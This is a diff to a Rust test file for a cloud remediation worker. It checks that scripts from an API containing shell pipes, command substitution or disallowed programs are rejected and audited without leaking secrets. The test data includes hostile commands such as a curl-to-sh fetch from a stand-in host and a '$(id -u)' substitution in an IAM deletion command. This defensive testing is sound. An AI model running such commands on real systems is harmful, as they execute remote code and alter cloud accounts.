@@ -743,11 +743,11 @@ async fn a_hostile_script_from_the_api_is_rejected_and_nothing_runs() {
         hostile: [
             (
                 "P-EVIL".to_owned(),
-                "aws s3 ls; curl http://evil.example | sh".to_owned(),
+                "aws s3api list-buckets; curl http://evil.example | sh".to_owned(),
             ),
             (
                 "P-SUB".to_owned(),
-                "aws iam delete-user --user-name $(id -u)".to_owned(),
+                "aws iam delete-login-profile --user-name $(id -u)".to_owned(),
             ),
         ]
         .into(),
@@ -783,6 +783,9 @@ async fn a_hostile_script_from_the_api_is_rejected_and_nothing_runs() {
                 assert_eq!(r.decision, AuditDecision::Rejected, "{r:?}");
                 assert_eq!(r.reason_code.as_deref(), Some("unsafe_command"));
                 assert_eq!(r.settle, SettleAction::DeadLetter);
+                // A pipe, a command substitution: shell syntax, whatever the operations.
+                let reason = r.reason.as_deref().unwrap_or_default();
+                assert!(reason.contains("unsafe_command: shell_syntax: "), "{r:?}");
             }
             other => panic!("unexpected record for {other:?}"),
         }
@@ -939,7 +942,11 @@ async fn the_worker_plans_with_prisma_and_never_prints_a_secret() {
         .mount(&server)
         .await;
     let api = RemediationApiMock {
-        hostile: [("W-EVIL".to_owned(), "aws s3 ls && sh -c id".to_owned())].into(),
+        hostile: [(
+            "W-EVIL".to_owned(),
+            "aws s3api list-buckets && sh -c id".to_owned(),
+        )]
+        .into(),
         missing: ["W-NONE".to_owned()].into(),
         ..Default::default()
     };
@@ -974,6 +981,7 @@ async fn the_worker_plans_with_prisma_and_never_prints_a_secret() {
         .env("RUST_LOG", "debug")
         .env("PATH", standin.path_env())
         .env(support::LOG_VAR, standin.log_path())
+        .env("REMEDIATION_CHILD_ENV", support::LOG_VAR)
         .output()
         .await
         .expect("run the worker");
@@ -1006,6 +1014,17 @@ async fn the_worker_plans_with_prisma_and_never_prints_a_secret() {
     );
     let audit = std::fs::read_to_string(&audit_path).unwrap();
     assert_eq!(audit.lines().count(), 22);
+    // The hostile script is refused for its `sh`, after a catalog operation.
+    let evil: Value = audit
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).expect("audit JSON"))
+        .find(|r| r["alert_id"] == "W-EVIL")
+        .expect("W-EVIL audited");
+    let reason = evil["reason"].as_str().unwrap_or_default();
+    assert!(
+        reason.contains("unsafe_command: program_not_allowed: "),
+        "{evil}"
+    );
     assert!(requests_to(&server, "/login").await.len() == 2);
     assert_no_secrets(&[&stdout, &stderr, &audit]);
 }
